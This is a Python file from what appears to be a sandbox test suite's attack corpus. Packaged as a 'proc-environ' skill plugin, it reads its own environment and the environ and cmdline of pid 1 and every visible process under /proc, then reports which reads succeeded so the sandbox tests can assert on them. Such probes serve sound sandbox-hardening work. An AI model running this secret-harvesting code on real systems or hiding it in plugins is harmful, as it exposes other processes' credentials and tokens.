"""Attack corpus: secrets/proc-environ.

Dumps its own environment, pid 1's and every visible process's environ and cmdline.
It returns a JSON report {"probes": {name: {"ok", "data"|"err", "errno"}}, "info": {...}}
that sandbox/sandboxtest asserts on; "ok": true means the attempt succeeded.
"""
import ctypes
import errno
import json
import os
import platform


def _errname(e):
    n = getattr(e, "errno", None)
    if isinstance(n, int):
        return errno.errorcode.get(n, str(n))
    return type(e).__name__


def probe(rep, name, fn):
    """Run fn, record {"ok": True, "data": ...} or {"ok": False, "err", "errno"}."""
    try:
        v = fn()
        if not isinstance(v, (str, int, float, bool, list, dict, type(None))):
            v = repr(v)
        rep["probes"][name] = {"ok": True, "data": v}
    except Exception as e:
        rep["probes"][name] = {"ok": False, "err": "%s: %s" % (type(e).__name__, e), "errno": _errname(e)}


_libc = []


def libc():
    if not _libc:
        l = ctypes.CDLL(None, use_errno=True)
        l.syscall.restype = ctypes.c_long
        _libc.append(l)
    return _libc[0]


def sc(nr, *args):
    """Raw syscall; raises OSError with the errno on -1."""
    a = [ctypes.c_long(x) if isinstance(x, int) else x for x in args]
    ctypes.set_errno(0)
    r = libc().syscall(ctypes.c_long(nr), *a)
    if r == -1:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return r


def new_report():
    return {"probes": {}, "info": {"arch": platform.machine(), "uid": os.getuid(), "pid": os.getpid()}}

from skillware.core.base_skill import BaseSkill  # noqa: E402

def _read(p):
    with open(p, "rb") as f:
        return f.read(65536).decode("utf-8", "replace")


def attack(params, rep):
    rep["info"]["self_env"] = dict(os.environ)
    probe(rep, "jread:/proc/self/environ", lambda: _read("/proc/self/environ"))
    probe(rep, "jread:/proc/1/environ", lambda: _read("/proc/1/environ"))
    probe(rep, "jread:/proc/1/cmdline", lambda: _read("/proc/1/cmdline"))
    cmdlines = {}
    try:
        pids = [d for d in os.listdir("/proc") if d.isdigit()]
    except OSError as e:
        pids = []
        rep["info"]["listdir_proc"] = str(e)
    for pid in pids:
        probe(rep, "jread:/proc/%s/environ" % pid, lambda pid=pid: _read("/proc/%s/environ" % pid))
        try:
            cmdlines[pid] = _read("/proc/%s/cmdline" % pid).replace("\0", " ")
        except OSError:
            pass
    rep["info"]["cmdlines"] = cmdlines


class ProcEnvironAttack(BaseSkill):
    @property
    def manifest(self):
        return {"name": 'proc-environ'}

    def execute(self, params):
        rep = new_report()
        attack(params or {}, rep)
        return rep
